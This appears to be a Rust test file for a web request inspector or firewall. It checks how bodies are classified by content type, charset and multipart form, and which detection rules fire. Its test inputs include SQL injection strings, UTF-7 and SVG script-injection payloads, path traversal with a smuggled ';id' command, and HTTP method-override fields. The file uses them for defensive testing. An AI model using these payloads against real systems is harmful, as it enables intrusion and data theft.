            b"q=1",
        ),
        ("text/plain; charset=utf-7", b"+ADw-script+AD4-"),
        ("text/html; charset=IBM037", b"x"),
        ("application/xml; charset=shift_jis", b"<a>x</a>"),
        ("application/soap+xml; charset=utf-16", b"<a>x</a>"),
        (
            "text/xml",
            b"<?xml version=\"1.0\" encoding=\"UTF-7\"?><a>+ADw-x+AD4-</a>",
        ),
        (
            "application/xml",
            b"<?xml version='1.0' encoding='ebcdic-cp-us'?><a/>",
        ),
    ] {
        let (_, f, _) = body(Some(ct), b);
        assert_eq!(f, vec![1005], "{ct}: {}", String::from_utf8_lossy(b));
    }
    for (ct, b) in [
        (
            "application/x-www-form-urlencoded; charset=UTF-8",
            &b"q=1"[..],
        ),
        (
            "application/x-www-form-urlencoded; charset=iso-8859-1",
            b"q=1",
        ),
        ("text/plain; charset=us-ascii", b"hello"),
        ("text/plain; charset= Latin1 ", b"hello"),
        ("application/xml; charset=utf-8", b"<a>x</a>"),
        (
            "application/xml",
            b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>x</a>",
        ),
        ("application/xml", b"<?xml version=\"1.0\"?><a>x</a>"),
    ] {
        let (t, f, _) = body(Some(ct), b);
        assert!(f.is_empty(), "{ct}: {f:?}");
        assert!(!t.is_empty(), "{ct}");
    }
}

#[test]
fn plain_charset_names() {
    for ok in [
        "utf-8",
        "UTF8",
        " utf-8 ",
        "US-ASCII",
        "ascii",
        "ANSI_X3.4-1968",
        "iso-8859-1",
        "ISO_8859-1:1987",
        "latin1",
        "csISOLatin1",
    ] {
        assert!(plain_charset(ok), "{ok}");
    }
    for odd in [
        "",
        "utf-16",
        "utf-16le",
        "UTF-7",
        "utf-32",
        "cp1252",
        "windows-1252",
        "shift_jis",
        "ibm037",
        "iso-8859-2",
        "utf-8;",
        "x-utf-8",
        "l1",
        "us",
    ] {
        assert!(!plain_charset(odd), "{odd}");
    }
}

/// UTF-16 and UTF-32 text is neither binary (skipped) nor read as UTF-8: rule 1005.
#[test]
fn wide_text_is_ambiguous_not_binary() {
    let attack = "' union select password from users --";
    let mut bom = vec![0xff, 0xfe];
    bom.extend(utf16le(attack));
    let be: Vec<u8> = attack.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let utf32: Vec<u8> = attack
        .chars()
        .flat_map(|c| u32::from(c).to_le_bytes())
        .collect();
    // A first character that is not ASCII, then NULs at every other byte.
    let mut cjk = "中"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect::<Vec<_>>();
    cjk.extend(utf16le(attack));
    for (ct, b) in [
        (None, utf16le(attack)),
        (None, bom.clone()),
        (None, be),
        (None, utf32),
        (None, cjk),
        (Some("application/x-custom"), utf16le(attack)),
        (None, utf16le("{\"q\":\"' or 1=1\"}")),
        (Some("text/plain"), bom),
        (Some("text/csv"), utf16le(attack)),
    ] {
        let (t, f, facts) = body(ct, &b);
        assert_eq!(f, vec![1005], "{ct:?} {b:?}");
        assert_eq!(facts.kind, BodyKind::Text, "{ct:?} {b:?}");
        assert_eq!(t.len(), 1, "inspected as text besides");
    }
    // Binary that merely starts with a NUL, or has some NULs, stays binary.
    let mut amf = vec![0u8, 3, 0, 0, 0, 1];
    amf.extend((0..=255u8).cycle().skip(1).take(2048));
    let (t, f, facts) = body(Some("application/x-amf"), &amf);
    assert!(t.is_empty() && f.is_empty(), "{f:?}");
    assert_eq!(facts.kind, BodyKind::Binary);
    let (_, f, _) = body(None, b"\x00\x00\x00\x00\x80\x81\x82\x83\x84\x85\x86\x87");
    assert!(f.is_empty(), "{f:?}");
}

#[test]
fn empty_bodies() {
    let (t, f, facts) = body(Some("application/json"), b"");
    assert!(t.is_empty() && f.is_empty());
    assert_eq!(facts.kind, BodyKind::Json);
    let (_, f, _) = body(Some("application/json"), b" \r\n");
    assert!(f.is_empty());
    let (_, _, facts) = body(None, b"");
    assert_eq!(facts.kind, BodyKind::None);
    // A BOM is skipped.
    let (t, f, _) = body(Some("application/json"), b"\xef\xbb\xbf{\"a\":\"b\"}");
    assert!(f.is_empty());
    assert_eq!(t.len(), 2);
}

#[test]
fn kinds_announced() {
    assert_eq!(body_kind(Some("application/json")), BodyKind::Json);
    assert_eq!(
        body_kind(Some("APPLICATION/PROBLEM+JSON; charset=utf-8")),
        BodyKind::Json
    );
    assert_eq!(
        body_kind(Some("application/x-www-form-urlencoded")),
        BodyKind::Form
    );
    assert_eq!(
        body_kind(Some("multipart/form-data; boundary=x")),
        BodyKind::Multipart
    );
    assert_eq!(body_kind(Some("application/soap+xml")), BodyKind::Xml);
    assert_eq!(body_kind(Some("application/graphql")), BodyKind::GraphQl);
    assert_eq!(body_kind(Some("text/html")), BodyKind::Text);
    assert_eq!(body_kind(Some("image/jpeg")), BodyKind::Binary);
    assert_eq!(body_kind(Some("application/pdf")), BodyKind::Binary);
    assert_eq!(body_kind(Some("application/x-whatever")), BodyKind::Text);
    assert_eq!(body_kind(None), BodyKind::Text);
    assert_eq!(body_kind(Some("")), BodyKind::Text);
}

#[test]
fn params_parse() {
    let mut seen = Vec::new();
    parse_params(
        r#"form-data; name="a\"b"; filename="C:\x\y.txt";x=1 ; novalue; ="v"; z="unterminated"#,
        &mut |n, v| seen.push((n.to_string(), v.into_owned())),
    );
    assert_eq!(
        seen,
        vec![
            ("name".to_string(), "a\"b".to_string()),
            ("filename".to_string(), "C:\\x\\y.txt".to_string()),
            ("x".to_string(), "1".to_string()),
            (String::new(), "v".to_string()),
            ("z".to_string(), "unterminated".to_string()),
        ]
    );
}

// ----- how backends read the content type

/// PHP reads the media type up to a `;`, `,` or blank, Rack up to a `;` or `,`: such a form is
/// inspected as the form it is to them, and is rule 1005 (others read another type, or none).
#[test]
fn a_media_type_followed_by_more_is_read_as_php_reads_it_and_ambiguous() {
    for ct in [
        "application/x-www-form-urlencoded, x",
        "application/x-www-form-urlencoded,x; charset=utf-8",
        "application/x-www-form-urlencoded x",
        "application/x-www-form-urlencoded\tx",
        " application/x-www-form-urlencoded , text/plain",
    ] {
        let (t, f, facts) = body(Some(ct), b"note=x&_method=DELETE");
        assert_eq!(facts.kind, BodyKind::Form, "{ct:?}");
        assert_eq!(
            t,
            vec![p("body:note", "x"), p("body:_method", "DELETE")],
            "{ct:?}"
        );
        assert_eq!(f, vec![1005], "{ct:?}");
        assert_eq!(body_kind(Some(ct)), BodyKind::Form, "{ct:?}");
    }
    // Blanks around the type, or before its parameters, change nothing.
    for ct in [
        "application/x-www-form-urlencoded ",
        "application/x-www-form-urlencoded ; charset=utf-8",
        "\tapplication/x-www-form-urlencoded",
    ] {
        let (_, f, facts) = body(Some(ct), b"note=x");
        assert_eq!(facts.kind, BodyKind::Form, "{ct:?}");
        assert!(f.is_empty(), "{ct:?}");
    }
}

/// Rack reads `multipart/mixed` and `multipart/related` bodies as it reads form-data ones:
/// every `multipart/*` type is read as multipart. Outside `multipart/form-data` a part may
/// lack a `Content-Disposition` (batches, MTOM): its content is an unnamed value.
#[test]
fn every_multipart_type_is_read_as_multipart() {
    let b = b"--b\r\nContent-Disposition: form-data; name=\"_method\"\r\n\r\nDELETE\r\n--b--\r\n";
    for ct in [
        "multipart/mixed; boundary=b",
        "multipart/related; boundary=b",
        "Multipart/Alternative; boundary=\"b\"",
    ] {
        let (t, f, facts) = body(Some(ct), b);
        assert_eq!(facts.kind, BodyKind::Multipart, "{ct}");
        assert_eq!(t, vec![p("body:_method", "DELETE")], "{ct}");
        assert!(f.is_empty(), "{ct}");
    }
    let batch = b"--batch\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\nGET /Customers('1') HTTP/1.1\r\n\r\n--batch\r\n\r\nno headers\r\n--batch--\r\n";
    let (t, f, _) = body(Some("multipart/mixed; boundary=batch"), batch);
    assert!(f.is_empty(), "{f:?}");
    assert_eq!(
        t,
        vec![
            p("body", "GET /Customers('1') HTTP/1.1\r\n"),
            p("body", "no headers")
        ]
    );
    // A SOAP attachment in base64: read as sent (no parser decodes it for the application);
    // in form-data it stays refused.
    let soap = b"--m\r\nContent-Type: text/xml\r\n\r\n<Envelope/>\r\n--m\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\nContent-ID: <a>\r\n\r\niVBORw0KGgo=\r\n--m--\r\n";
    let (t, f, _) = body(Some("multipart/related; boundary=m"), soap);
    assert!(f.is_empty(), "{f:?}");
    // The XML part is inspected; the image, an attachment, is not (as a form-data file).
    assert_eq!(t, vec![p("body", "<Envelope/>")]);
    let mtom = b"--m\r\nContent-Type: application/octet-stream\r\nContent-ID: <b>\r\n\r\n\x89PNG <svg onload=alert(1)> ../../;id\r\n--m--\r\n";
    let (t, f, _) = body(Some("multipart/related; boundary=m"), mtom);
    assert!(t.is_empty() && f.is_empty(), "{t:?} {f:?}");
    let in_form = b"--m\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Transfer-Encoding: base64\r\n\r\nYQ==\r\n--m--\r\n";
    let (_, f, _) = body(Some("multipart/form-data; boundary=m"), in_form);
    assert_eq!(f, vec![1001]);
    // Form-data still needs one; and any multipart type needs a boundary.
    let (_, f, _) = body(Some("multipart/form-data; boundary=batch"), batch);
    assert_eq!(f, vec![1001]);
    let (_, f, _) = body(Some("multipart/mixed"), b"_method=DELETE");
    assert_eq!(f, vec![1001]);
}

/// Laravel reads a body as JSON when its `Content-Type` holds `/json` or `+json` anywhere: a
/// structured type of another kind with such a field is rule 1005, and a body that is a JSON
/// document is inspected as JSON.
#[test]
fn a_structured_type_holding_json_is_ambiguous_and_read_as_json() {
    for ct in [
        "application/x-www-form-urlencoded; v=/json",
        "application/x-www-form-urlencoded; x=\"a+json\"",
        "multipart/form-data; boundary=b; x=/JSON",
        "application/xml; profile=/json",
    ] {
        let (t, f, facts) = body(Some(ct), br#"{"_method":"DELETE"}"#);
        assert_eq!(facts.kind, BodyKind::Json, "{ct}");
        assert_eq!(
            t,
            vec![
                p("body:$._method (name)", "_method"),
                p("body:$._method", "DELETE")
            ],
            "{ct}"
        );
        assert_eq!(f, vec![1005], "{ct}");
    }
    // Not JSON: read as its type, and no finding (a DICOMweb upload's
    // `multipart/related; type="application/dicom+json"` names its parts' type).
    let (t, f, facts) = body(
        Some("application/x-www-form-urlencoded; v=/json"),
        b"_method=DELETE",
    );
    assert_eq!(facts.kind, BodyKind::Form);
    assert_eq!(t, vec![p("body:_method", "DELETE")]);
    assert!(f.is_empty(), "{f:?}");
    let dicom =
        b"--b\r\nContent-Type: application/dicom+json\r\n\r\n[{\"00080016\": {}}]\r\n--b--\r\n";
    let (_, f, facts) = body(
        Some("multipart/related; type=\"application/dicom+json\"; boundary=b"),
        dicom,
    );
    assert_eq!(facts.kind, BodyKind::Multipart);
    assert!(f.is_empty(), "{f:?}");
    // JSON types, and text or unknown ones (read as JSON when they are JSON anyway), are not.
    for ct in [
        "application/json",
        "application/vnd.api+json",
        "text/plain; x=/json",
        "application/json-seq",
    ] {
        let (_, f, facts) = body(Some(ct), br#"{"_method":"DELETE"}"#);
        assert_eq!(facts.kind, BodyKind::Json, "{ct}");
        assert!(f.is_empty(), "{ct}");
    }
}

/// A body without a type (which Rack reads as a form), or of a text or unknown one, is still
/// inspected as text; a field in it that reads as `_method` when read as a form or multipart
/// is recorded for rule 2401, binary-looking or not.
#[test]
fn untyped_bodies_record_a_method_field() {
    for (ct, b) in [
        (None, &b"note=x&_method=DELETE"[..]),
        (
            None,
            b"_method=DELETE&\xff\xfe\xfd\xfc\xfb\xfa\xf9\xf8\x00\x01\x02\x03\x04\x05",
        ),
        (None, br#"{"x":"&_method=DELETE&"}"#),
        (Some("text/plain"), b"a=1;%5B_method%5D=PUT"),
        (Some("application/x-custom"), b"_method=DELETE"),
        (
            None,
            b"--b\r\nContent-Disposition: form-data; name=_method\r\n\r\nDELETE\r\n--b--\r\n",
        ),
    ] {
        let (_, _, facts) = body(ct, b);
        let name = facts.untyped_method_field.as_deref().unwrap_or_default();
        assert!(
            name.ends_with("_method]") || name == "_method",
            "{ct:?} {b:?}: {name:?}"
        );
    }
    for (ct, b) in [
        (None, &b"note=_method"[..]),
        (Some("application/x-www-form-urlencoded"), b"_method=DELETE"),
        (Some("application/json"), br#"{"x":"&_method=DELETE&"}"#),
        (Some("application/octet-stream"), b"_method=DELETE"),
    ] {
        let (_, _, facts) = body(ct, b);
        assert_eq!(facts.untyped_method_field, None, "{ct:?} {b:?}");
    }
}
